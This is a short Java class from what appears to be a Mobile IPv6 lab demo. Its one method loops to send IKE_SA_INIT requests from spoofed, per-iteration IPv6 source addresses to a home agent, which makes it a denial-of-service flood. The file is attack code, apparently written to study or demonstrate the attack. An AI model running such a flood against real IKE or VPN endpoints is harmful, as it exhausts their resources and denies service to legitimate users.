package mip6.lab.demo;

import mip6.linux.LinuxException;
import mip6.wire.Bytes;
import mip6.wire.Ipv6Address;

/** IKE_SA_INIT requests from addresses that are nobody's. */
final class Flood {

    private Flood() {}

    /** {@code count} of them, as fast as they go. */
    static void of(Attacker attacker, int count) throws LinuxException {
        for (int i = 0; i < count; i++) {
            Bytes request = attacker.init(attacker.initPayloads()).encode();
            attacker.spoof(
                    new Ipv6Address(0x2001_0db8_0bad_0000L + i, 1),
                    Plan.HOME_AGENT_ADDRESS,
                    request);
        }
    }
}
